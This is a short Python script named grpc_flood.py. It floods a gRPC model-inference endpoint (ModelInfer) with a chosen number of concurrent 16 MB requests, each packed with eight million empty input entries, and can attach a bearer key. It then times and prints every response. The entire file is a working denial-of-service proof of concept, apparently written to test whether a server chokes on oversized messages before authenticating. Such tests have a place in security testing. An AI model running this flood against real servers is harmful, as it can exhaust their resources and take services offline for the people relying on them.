"""grpc_flood.py ADDR N [KEY]: sends N concurrent ModelInfer calls of 16 MB (8,000,000 empty `inputs` entries), optionally
with a key; prints each outcome and the wall time."""
import sys, time, threading
import grpc
addr, n, key = sys.argv[1], int(sys.argv[2]), (sys.argv[3] if len(sys.argv) > 3 else None)
channel = grpc.insecure_channel(addr, options=[("grpc.max_send_message_length", -1)])
call = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer", request_serializer=None, response_deserializer=None)
message = b"\x2a\x00" * 8_000_000
md = [("authorization", "Bearer " + key)] if key else None
out = []
def one():
    t = time.time()
    try:
        call(message, metadata=md, timeout=120); out.append(("OK", time.time() - t))
    except grpc.RpcError as e:
        out.append((str(e.code()), round(time.time() - t, 2), e.details()[:80]))
ts = [threading.Thread(target=one) for _ in range(n)]
[t.start() for t in ts]; [t.join() for t in ts]
print(out)
